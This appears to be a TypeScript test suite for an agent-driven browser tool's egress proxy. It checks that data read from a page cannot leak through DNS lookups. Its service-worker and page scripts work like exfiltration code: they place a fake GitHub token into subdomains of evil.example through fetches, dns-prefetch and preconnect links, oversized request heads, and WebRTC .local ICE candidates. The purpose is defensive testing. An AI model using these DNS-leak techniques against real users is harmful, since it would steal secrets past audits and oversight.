// The browser tabward starts looks no name up itself (browser/egressProxy.ts `noLookups`; docs/architecture.md
// "The choke point"). Chromium 156, behind the proxy, still resolved the host of some requests on its own: a service
// worker's fetch refused at the browser-wide gate, a request whose connection the proxy closed. After a sensitive
// read a page put what it had read in a name (`<data>.evil.example`), and the DNS query carried it to whoever answers
// for that domain, past every judgement and with nothing in the audit. Seen in Chromium's NetLog: the tests map every
// name to 127.0.0.1, so a lookup that would have gone out shows as that address, one that came to nothing as
// `~notfound`. And a request head over Node's 16 KiB default (a long URL) was dropped unread, as a closed connection:
// it is now read and judged, and a site's response head that large passes as it does without the proxy.

import assert from 'node:assert/strict';
import { createSocket, type Socket } from 'node:dgram';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type McpUnderTest, startMcp } from '../helpers/mcpClient.ts';
import { type Connected, clientsOf, startMcpHttp, stopAll } from '../helpers/mcpHttpClients.ts';
import type { RunningTabward } from '../helpers/tabwardProcess.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_lookupToken4242';
const pad = 'a'.repeat(20_000);
/** A service worker that, asked, fetches names made of what the page read: plain, with a long URL, a long header. */
const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('message', async (event) => {
  const name = event.data;
  const outcome = (request) => request.then(() => 'answered', () => 'failed');
  const results = await Promise.all([
    outcome(fetch('https://' + name + '-plain.evil.example/x', { mode: 'no-cors' })),
    outcome(fetch('https://' + name + '-url.evil.example/x?${pad}', { mode: 'no-cors' })),
    outcome(fetch('https://' + name + '-header.evil.example/x', { headers: { 'x-pad': '${pad}' } })),
  ]);
  event.source.postMessage(results);
});`;

let site: Fixture;
/** What the site's /large route saw of its request's x-pad header (its length). */
const padsSeen: number[] = [];
const tempDir = mkdtempSync(join(tmpdir(), 'tabward-lookups-'));

before(async () => {
  site = await startFixture(
    {
      '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
      '/acme': (_req, _body, res) => html(res, '<title>acme</title><p>acme</p>'),
      '/sw.js': (_req, _body, res) => {
        res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' }).end(worker);
      },
      // A response head of 40 KB (a site's long Content-Security-Policy, its cookies): Chromium takes up to 256 KiB.
      '/large-head': (_req, _body, res) =>
        html(res, '<title>Large head</title><p>served whole</p>', 200, { 'x-policy': 'p'.repeat(40_000) }),
      '/large': (req, _body, res) => {
        padsSeen.push(String(req.headers['x-pad'] ?? '').length);
        res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
      },
    },
    { tls: true },
  );
});
after(async () => {
  await site?.close();
  rmSync(tempDir, { recursive: true, force: true });
});

/** The hosts Chromium asked its resolver for, as its rules left them (read once the browser has closed its log). */
function lookupsIn(netLog: string): string[] {
  const log = JSON.parse(readFileSync(netLog, 'utf8')) as {
    constants: { logEventTypes: Record<string, number> };
    events: { type: number; params?: { host?: string } }[];
  };
  const request = log.constants.logEventTypes.HOST_RESOLVER_MANAGER_REQUEST;
  return log.events.flatMap((event) =>
    event.type === request && event.params?.host ? [event.params.host] : [],
  );
}

/** The netlog is complete once Chromium has exited: its last lines are written as it closes. */
async function closedLog(netLog: string): Promise<string[]> {
  for (let tries = 0; ; tries++) {
    try {
      return lookupsIn(netLog);
    } catch (error) {
      if (tries > 50) throw error;
      await new Promise((done) => setTimeout(done, 200));
    }
  }
}

const unresolved = (host: string) => /\/\/~notfound(:\d+)?$/.test(host);

/** The browser asked its resolver (the page did run) and every lookup came to nothing: no query could leave. */
async function assertNothingLookedUp(netLog: string): Promise<void> {
  const lookups = await closedLog(netLog);
  assert.ok(lookups.length > 0, 'the NetLog shows no lookup at all: the page did not run');
  assert.deepEqual(
    lookups.filter((host) => !unresolved(host)),
    [],
    `lookups that would have reached a resolver: ${lookups.join(' ')}`,
  );
}

describe('the isolated browser', () => {
  const netLog = join(tempDir, 'isolated.json');
  let mcp: McpUnderTest;
  let outcomes: string[] = [];
  let audit = '';

  before(async () => {
    mcp = await startMcp({ args: ['--mode', 'isolated', '--chrome-arg', `--log-net-log=${netLog}`] });
    // The human approves the scripts below and refuses every request held after the read.
    mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    await mcp.call('navigate_page', { url: site.url('github.com', '/acme') });
    const registered = await mcp.call('evaluate_script', {
      function: `async () => { await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready; return 'registered' }`,
    });
    assert.match(registered.text, /registered/);
    await mcp.call('navigate_page', { url: site.url('github.com', '/settings/tokens') });
    assert.match((await mcp.call('take_snapshot')).text, new RegExp(token));
    await mcp.call('navigate_page', { url: site.url('github.com', '/acme') });
    const sent = await mcp.call('evaluate_script', {
      function: `async () => {
        const worker = (await navigator.serviceWorker.ready).active;
        const answer = new Promise((done) => navigator.serviceWorker.addEventListener('message', (e) => done(e.data), { once: true }));
        worker.postMessage(${JSON.stringify(token.toLowerCase())});
        const link = (rel, name) => { const l = document.createElement('link'); l.rel = rel; l.href = 'https://' + name + '.evil.example/'; document.head.append(l); };
        link('dns-prefetch', '${token.toLowerCase()}-prefetch');
        link('preconnect', '${token.toLowerCase()}-preconnect');
        fetch('https://${token.toLowerCase()}-page.evil.example/x?' + 'a'.repeat(${pad.length}), { mode: 'no-cors' }).catch(() => {});
        const results = await Promise.race([answer, new Promise((done) => setTimeout(() => done(['no answer']), 10000))]);
        await new Promise((done) => setTimeout(done, 1000));
        return results.join(',');
      }`,
    });
    outcomes = /"([a-z, ]+)"/.exec(sent.text)?.[1]?.split(',') ?? [sent.text];
    audit = readFileSync(mcp.auditPath, 'utf8');
    await mcp.close();
  });

  test('after a sensitive read, no name a service worker or page made of it is looked up by the browser', async () => {
    // The attack did make Chromium ask (its own requests ask too): each came to nothing, no query left.
    await assertNothingLookedUp(netLog);
  });

  test('a request head over 16 KiB reaches the choke point whole and is judged there, not dropped unread', () => {
    // The long URL's fetch reaches the proxy, which refuses it with a 403 (to no-cors, an opaque answer); it was
    // dropped unread, a closed connection (failed). The other two are stopped wherever they are stopped.
    assert.equal(outcomes.length, 3, `the worker's fetches: ${outcomes.join(',')}`);
    assert.equal(outcomes[1], 'answered', `the worker's fetches: ${outcomes.join(',')}`);
    // Refused with no tab to tell: the audit names the worker's refusals to that site (at most one event every
    // 5 s for a site, the rest counted: stopsTold.ts).
    assert.match(
      audit,
      new RegExp(`"url":"https://${token.toLowerCase()}-(plain|url|header)\\.evil\\.example`),
      'the audit names the worker’s refused requests',
    );
  });
});

describe('a client of the shared browser (mcp --http)', () => {
  const netLog = join(tempDir, 'shared.json');
  const home = join(tempDir, 'home');
  const open: Connected[] = [];
  let tabward: RunningTabward | undefined;
  const { connect, call } = clientsOf(() => tabward as RunningTabward, open);

  before(async () => {
    tabward = await startMcpHttp(['--chrome-arg', `--log-net-log=${netLog}`], home);
  });
  after(() => stopAll(tabward, open));

  test('a page and response heads over 16 KiB pass the choke point, and its browser looks no name up', async () => {
    const { client } = await connect();
    const large = await call(client, 'navigate_page', {
      url: site.url('example.com', '/large-head'),
      snapshot: true,
    });
    assert.match(large.text, /served whole/);
    const sent = await call(client, 'evaluate_script', {
      function: `async () => {
        const answer = await fetch('/large', { headers: { 'x-pad': 'a'.repeat(${pad.length}) } }).then((r) => r.text(), (e) => String(e));
        // A site that cannot be reached: the proxy's connection fails, and Chromium would look its name up.
        await fetch('https://unreachable-name-4242.example:1/', { mode: 'no-cors' }).catch(() => {});
        return answer;
      }`,
    });
    assert.match(sent.text, /ok/);
    assert.deepEqual(padsSeen, [pad.length]);
    await stopAll(tabward, open);
    tabward = undefined;
    await assertNothingLookedUp(netLog);
  });
});

describe('multicast DNS', () => {
  let mcp: McpUnderTest;
  let listener: Socket;
  /** The multicast DNS queries this machine's network carried back to a listener on 224.0.0.251:5353. */
  const queries: string[] = [];

  before(async () => {
    listener = createSocket({ type: 'udp4', reuseAddr: true });
    listener.on('message', (message) => queries.push(message.toString('latin1')));
    await new Promise<void>((resolve) => listener.bind(5353, () => resolve()));
    listener.addMembership('224.0.0.251');
    listener.setMulticastLoopback(true);
    mcp = await startMcp({ args: ['--mode', 'isolated'] });
    mcp.human.policy = () => ({ decision: 'approve' });
  });
  after(async () => {
    await mcp?.close();
    listener?.close();
  });

  test('a page’s ICE candidates named *.local put no query on the network', async (t) => {
    // Whether this machine carries multicast back to a listener at all: a probe of the test's own first.
    const probe = createSocket('udp4');
    probe.send(Buffer.from('tabward-multicast-probe'), 5353, '224.0.0.251');
    const carried = await waitFor(
      'the probe',
      () => queries.some((query) => query.includes('tabward-multicast-probe')),
      {
        timeoutMs: 2_000,
      },
    ).catch(() => false);
    probe.close();
    if (!carried) {
      t.skip('this machine carries no multicast back to a listener: nothing to observe');
      return;
    }
    await mcp.call('navigate_page', { url: site.url('github.com', '/acme') });
    await mcp.call('evaluate_script', {
      function: `async () => {
        const one = new RTCPeerConnection(), other = new RTCPeerConnection();
        one.createDataChannel('x');
        await one.setLocalDescription(await one.createOffer());
        await other.setRemoteDescription(one.localDescription);
        await other.setLocalDescription(await other.createAnswer());
        await one.setRemoteDescription(other.localDescription);
        for (const name of ['lookuptoken.local', 'LOOKUPTOKEN.LOCAL', 'a.b.lookuptoken.local'])
          await one.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + name + ' 9999 typ host', sdpMid: '0' }).catch(String);
        await new Promise((done) => setTimeout(done, 3000));
        return 'added';
      }`,
    });
    // A query for the name the host resolver's rule made of it (~NOTFOUND), or for the name itself.
    assert.deepEqual(
      queries.filter((query) => /NOTFOUND|lookuptoken/i.test(query)),
      [],
    );
  });
});
